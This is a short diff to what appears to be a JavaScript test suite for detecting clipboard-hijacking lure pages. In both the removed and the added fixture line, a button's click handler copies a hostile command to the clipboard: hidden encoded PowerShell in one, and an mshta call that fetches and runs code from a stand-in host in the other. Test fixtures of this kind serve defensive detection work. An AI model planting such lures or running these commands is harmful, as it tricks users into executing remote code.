@@ -298,7 +298,7 @@ describe('lures', () => {
       'a command for the clipboard',
       paste(
         'What we saw in May',
-        `${words(14)}${script('b.onclick=()=>navigator.clipboard.writeText("powershell -w hidden -enc SQBFAFgA")')}`,
+        `${words(14)}${script('b.onclick=()=>navigator.clipboard.writeText("mshta https://in-desk.example/a.mp4")')}`,
       ),
       paste(
         'What we saw in May',
